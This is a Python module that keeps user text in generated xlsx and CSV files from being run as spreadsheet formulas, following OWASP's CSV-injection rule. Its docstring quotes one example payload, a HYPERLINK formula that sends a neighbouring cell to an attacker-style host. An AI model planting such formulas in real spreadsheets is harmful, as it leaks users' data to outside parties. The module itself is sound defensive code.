"""Write spreadsheets (xlsx, CSV) so that no text from users becomes a formula.

A spreadsheet program runs a cell that starts with `=` (and, in a CSV file, also `+`,
`-`, `@`, a tab or a carriage return) as a formula: an incident description
`=HYPERLINK("http://evil.example/?leak="&B5,"x")` in a report would send the next cell
to that site when clicked. Every generated spreadsheet goes through this module:

* `new_workbook(target, ...)`: an xlsxwriter Workbook that writes every `str` as a text
  cell (`strings_to_formulas`, `strings_to_urls` and `strings_to_numbers` off, and no
  caller may turn them on). Numbers, dates and booleans keep their types; a formula can
  only be written on purpose with `write_formula`.
* `csv_cell(value)` / `csv_writer(handle)`: the OWASP rule for CSV: a text cell starting
  with one of `= + - @ \\t \\r` gets a leading apostrophe, which spreadsheet programs show
  as text. A value that itself starts with an apostrophe followed by one of those (or by
  another apostrophe) gets one too, so `csv_uncell` (used by the importer) gives back
  exactly the original text: export, then import, round-trips.

openpyxl is used here only to read; a writer built on it would have to set
`cell.data_type = "s"` for text (it too treats a leading `=` as a formula).
"""

import csv
from typing import Any

# Characters that make a CSV cell a formula (OWASP, "CSV Injection").
FORMULA_START = frozenset("=+-@\t\r")
_QUOTE = "'"
_AFTER_QUOTE = FORMULA_START | {_QUOTE}

SAFE_WORKBOOK_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def csv_cell(value: Any) -> Any:
    """`value` made safe for a CSV cell: text that a spreadsheet would run is prefixed with
    an apostrophe; anything that is not text is returned as it is (numbers stay numbers)."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_START or (value[0] == _QUOTE and value[1:2] in _AFTER_QUOTE):
        return _QUOTE + value
    return value


def csv_uncell(value: str) -> str:
    """The text `csv_cell` was given, from the cell it wrote (other text is unchanged)."""
    if value[:1] == _QUOTE and value[1:2] in _AFTER_QUOTE:
        return value[1:]
    return value


class _SafeWriter:
    """csv.writer whose rows pass through `csv_cell`."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def csv_writer(handle, **options) -> _SafeWriter:
    """`csv.writer(handle, **options)` that escapes every cell with `csv_cell`."""
    return _SafeWriter(csv.writer(handle, **options))


def new_workbook(target, options: dict | None = None):
    """An xlsxwriter Workbook at `target` (a path or a BytesIO) that writes text as text.

    `options` are xlsxwriter's (`constant_memory`, `in_memory`, ...); the three string
    conversions stay off whatever they say, and asking to turn one on is an error."""
    import xlsxwriter

    options = dict(options or {})
    for name in SAFE_WORKBOOK_OPTIONS:
        if options.get(name):
            raise ValueError(f"{name} would let user text become formulas or links; write them explicitly.")
    options.update(SAFE_WORKBOOK_OPTIONS)
    return xlsxwriter.Workbook(target, options)
